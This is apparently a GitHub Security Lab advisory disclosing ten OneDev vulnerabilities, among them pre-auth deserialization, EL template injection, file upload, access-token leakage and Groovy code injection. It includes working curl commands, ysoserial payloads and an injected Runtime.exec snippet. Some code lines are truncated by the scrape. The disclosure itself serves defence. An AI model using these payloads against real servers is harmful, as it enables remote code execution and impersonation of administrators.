skip to content
Back to
Home Bounties Research Advisories Get Involved Events
January 26, 2021

GHSL-2020-214_223: 10 CVEs in OneDev ranging from pre-auth Remote Code Execution (RCE) to Arbitrary File Read/Write

Alvaro Munoz

Coordinated Disclosure Timeline


Multiple vulnerabilities were found in the OneDev project ranging from pre-auth Remote Code Execution (RCE) to Arbitrary File Read/WriteTested Version

latest commit to the date of testing: f34af86


Issue 1: Pre-Auth Unsafe Deserialization on AttachmentUploadServet

AttachmentUploadServlet deserializes untrusted data from the Attachment-Support header:

protected void doPost(HttpServletRequest request, HttpServletResponse response)
        throws ServletException, IOException {
    String fileName = URLDecoder.decode(request.getHeader("File-Name"),;
    AttachmentSupport attachmentSuppport = (AttachmentSupport) SerializationUtilsThis Servlet does not enforce any authentication or authorization checks.


Use ysoserial to generate a probe payload using the URLDNS gadget. This gadget will send a DNS request which we can intercept to prove the deserialization attack was successful.

curl -X POST http://localhost:6610/attachment_upload -H "File-Name: foo" -H "Attachment-Support: `java -jar /Users/pwntester/Dev/ysoserial/target/ysoserial-0.0.6-SNAPSHOT-all.jar URLDNS | base64`"


This issue may lead to pre-auth RCE

Issue 2: Pre-Auth Unsafe Deserialization on KubernetesResource

A Kubernetes REST endpoint exposes two methods that deserialize untrusted data from the request body:

  public byte[] allocateJobCaches(byte[] cacheAllocationRequestBytes) {
    CacheAllocationRequest allocationRequest = (CacheAllocationRequest) SerializationUtils.deserialize(cacheAllocationRequestBytes);


    public void reportJobCaches(byte[] cacheInstanceBytes) {
        Collection<CacheInstance> cacheInstances = (Collection<CacheInstance>) SerializationUtils
        jobManager.reportJobCaches(getJobToken(), cacheInstances);

These endpoints do not enforce any authentication or authorization checks.


java -jar ~/Dev/ysoserial/target/ysoserial-0.0.6-SNAPSHOT-all.jar URLDNS > deser_payload.bin`
curl -H "Content-Type:application/octet-stream" --data-binary @deser_payload.bin http://localhost:6610/rest/k8s/allocate-job-caches
java -jar ~/Dev/ysoserial/target/ysoserial-0.0.6-SNAPSHOT-all.jar URLDNS > deser_payload.bin
curl -H "Content-Type:application/octet-stream" --data-binary @deser_payload.bin http://localhost:6610/rest/k8s/report-job-caches


This issue may lead to pre-auth RCE

Issue 3: Pre-Auth SSTI via Bean validation message tampering

There are many custom validators using Java Bean Validation (JSR 380) custom constraint validators. Apparently a similar issue was reported in the past (fix issue #88: Users able to edit build spec can execute arbitrary java ) and it was fixed by this commit by disabling EL interpolation:

-   Configuration<?> configuration = Validation.byDefaultProvider().configure();
+   Configuration<?> configuration = Validation
+           .byDefaultProvider()
+           .configure()
+           .messageInterpolator(new ParameterMessageInterpolator());

This effectively disables EL interpolation in most cases, but I found that this configuration is not applied for the Jersey server which uses a different ValidatorFactory configuration defined in ValidationConfigurationContextResolver:

    public ValidationConfig getContext(final Class<?> type) {
        ValidatorFactory factory = AppLoader.getInstance(ValidatorFactory.class);
        ValidationConfig config = new ValidationConfig();
        return config;

There is a custom validator using this configuration, theValidQueryParamsValidator:

    public boolean isValid(Object[] value, ConstraintValidatorContext context) {
        Set<String> expectedParams = newHashSet<>();
        for (Annotation[] annotations: resourceInfo.getResourceMethod().getParameterAnnotations()) {
            for (Annotation annotation: annotations) {
                if (annotation instanceof QueryParam) {
                    QueryParam param = (QueryParam) annotation;
        Set<String> actualParams = new HashSet<>(uriInfo.getQueryParameters().keySet());
        if (actualParams.isEmpty()) {
            return true;
        } else {
            context.buildConstraintViolationWithTemplate("Unexpected query params: " +actualParams).addConstraintViolation();
            return false;

This would be vulnerable if EL interpolation is allowed and if the REST endpoint receives an unexpected query parameter. We can verify if this is the case with the following payload:

${'test'.toUpperCase()}` -> `%24%7b%27%74%65%73%74%27%2e%74%6f%55%70%70%65%72%43%61%73%65%28%29%7d

Trying it locally:

curl -X GET -H "Content-Type: application/json" http://localhost:6610/rest/projects\?%24%7b%27%74%65%73%74%27%2e%74%6f%55%70%70%65%72%43%61%73%65%28%29%7d=bar

We get no response but an exception:

Caused by: org.glassfish.jersey.server.ContainerException: java.lang.NoSuchMethodError: javax.el.ELContext.notifyBeforeEvaluation(Ljava/lang/String;)

However in the stack trace we can find clues that Hibernate performed EL interpolation:

at com.sun.el.lang.EvaluationContext.notifyBeforeEvaluation( ~[org.glassfish.javax.el-3.0.0.jar:3.0.0]
at com.sun.el.ValueExpressionImpl.getValue( ~[org.glassfish.javax.el-3.0.0.jar:3.0.0]
at org.hibernate.validator.internal.engine.messageinterpolation.ElTermResolver.interpolate( ~[org.hibernate.hibernate-validator-5.3.6.Final.jar:5.3.6.Final]
at org.hibernate.validator.internal.engine.messageinterpolation.InterpolationTerm.interpolate( ~[org.hibernate.hibernate-validator-5.3.6.Final.jar:5.3.6.Final]

This exception seems to be related to a misconfiguration in our docker dev container. Trying it on the onedev server (v3.2.9) we get our expression evaluated:

curl -X GET -H "Content-Type: application/json"\?%24%7b%27%74%65%73%74%27%2e%74%6f%55%70%70%65%72%43%61%73%65%28%29%7d=bar
Unexpected query params: [TEST] (path = ProjectResource.query.<cross-parameter>,invalidValue = [null, null, null, org.glassfish.jersey.server.internal.routing.UriRoutingContext@5b27a361])

As we can see in the output, the Java code was evaluated and returned TEST in upper case.

This validation, and therefore the arbitrary code execution, happens before any authentication or authorization checks are enforced.


This issue may lead to pre-auth RCE

Issue 4: Pre-Auth Arbitrary File Upload

AttachmentUploadServlet also saves user controlled data (request.getInputStream()) to a user specified location (request.getHeader("File-Name")):

String fileName = URLDecoder.decode(request.getHeader("File-Name"),;
String attachmentName = attachmentSuppport.saveAttachment(fileName, request.getInputStream());

This file system operation occurs before any authentication or authorization checks are enforced.


This issue may lead to arbitrary file upload which can be used to upload a WebShell to OneDev serverIssue 5: Pre-Auth Access token leak

The REST UserResource endpoint performs a security check to make sure that only administrators can list user details. For the /users/ endpoint we have:

public Response query(@QueryParam("name") String name, @Email @QueryParam("email") String email, @QueryParam("offset") Integer offset, @QueryParam("count") Integer count, @Context UriInfo uriInfo) {
  if (!SecurityUtils.isAdministrator())
    throw new UnauthorizedException("Unauthorized access to user profiles");

However for the /users/{id} endpoint there are no security checks enforced so it is possible to retrieve arbitrary user details:

public User get(@PathParam("userId") Long userId) {
  return userManager.load(userId);

For the protected endpoint, we get an Unauthorized access error:curl -X GET -H "Content-Type: application/json" http://localhost:6610/rest/users
Unauthorized access to user profiles

But for the /users/{} endpoint we can list full user details, including their Access Tokens!

curl -X GET -H "Content-Type: application/json" http://localhost:6610/rest/users/1
  "id" : 1,
  "name" : "admin",
  "fullName" : "admin",
  "ssoInfo" : {
    "connector" : null,
    "subject" : "4a155bff-715d-45e9-8898-4152bb97d25e"
  "email" : "",
  "accessToken" : "JqnqWs6YsP8x3poNpnj6J6GFbvh0szli6lr5BWH8",
  "userProjectQueries" : [ ],
  "userIssueQueries" : [ ],
  "userIssueQueryWatches" : { },
  "issueQueryWatches" : { },
  "userPullRequestQueries" : [ ],
  "userPullRequestQueryWatches" : { },
  "pullRequestQueryWatches" : { },
  "userBuildQueries" : [ ],
  "userBuildQuerySubscriptions" : [ ],
  "buildQuerySubscriptions" : [ ]These access tokens can be used to access the API or clone code in the build spec via the HTTP(S) protocol. It has permissions to all projects accessible by the user account.


This issue may lead to Sensitive data leak and leak the Access Token which can be used to impersonate the administrator or any other users.

Issue 6: Post-Auth Unsafe Deserialization on BasePage (AJAX)

The application’s BasePage registers an AJAX event listener (AbstractPostAjaxBehavior) in all pages other than the login page. This listener decodes and deserializes the data queryparameter.

  protected void respond(AjaxRequestTarget target) {
    IRequestParameters params = RequestCycle.get().getRequest().getPostParameters();
    String encodedData = params.getParameterValue("data").toString();
    byte[] bytes = Base64.decodeBase64(encodedData.getBytes());
    Serializable data = (Serializable) SerializationUtils.deserialize(bytes);
    onPopState(target, data);

We can access this listener by submitting a POST request to any page. e.g.

POST /projects/my-app/blob?7-1.IBehaviorListener.0- HTTP/1.1
Host: localhost:6610
Content-Length: 389
Accept: application/xml, text/xml, */*; q=0.01
X-Requested-With: XMLHttpRequest
Wicket-Ajax-BaseURL: projects/my-app/blob
Wicket-Ajax: true
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4183.121 Safari/537.36
Content-Type: application/x-www-form-urlencoded; charset=UTF-8
Origin: http://localhost:6610
Sec-Fetch-Site: same-origin
Sec-Fetch-Mode: cors
Sec-Fetch-Dest: empty
Referer: http://localhost:6610/projects/my-app/blob
Accept-Encoding: gzip, deflate
Accept-Language: en-GB,en-US;q=0.9,en;q=0.8
Cookie: JSESSIONID=node0cq7tdfxnza2v1nb58f7zwg7jj6.node0
Connection: close


This endpoint is subject to authentication and, therefore, requires a valid user to carry on the attack.This issue may lead to post-auth RCE

Issue 7: Post-Auth Arbitrary Code execution via Groovy script injection

InputSpec is used to define parameters of a Build spec. It does so by using dynamically generated Groovy classes. A user able to control job parameters can run arbitrary code on OneDev’s server by injecting arbitrary Groovy code.

For example, for text parameters the class TextInput is used, which dynamically builds fields and method annotations:

buffer.append("    @Pattern(regexp=\"" + pattern + "\", message=\"Should match regular expression: " + pattern + "\")\n");

Where pattern can be controlled by the user as part of the build spec. For example, to execute arbitrary Groovy code, you candefine the following pattern:

  - !TextParam
    name: test
    description: test
    allowEmpty: false
    pattern: foo") public String foo() {return "";}; static {Runtime.getRuntime().exec("touch
      /tmp/pwned1");} //

The payload used is:

foo") public String foo() {return "";}; static {Runtime.getRuntime().exec("touch /tmp/pwned1");} //

Which, when injected, will result in:

@Pattern(regexp="foo") public String foo() {return "";}; static {Runtime.getRuntime().exec("touch /tmp/pwned1");} // ", message="Should match regular expression: " foo") public String foo() {return "";}; static {Runtime.getRuntime().exec("touch /tmp/pwned1");} // ")\n");
public String input1() {

When we remove the commented out text and sort it, we get:

public String foo() {return "";};
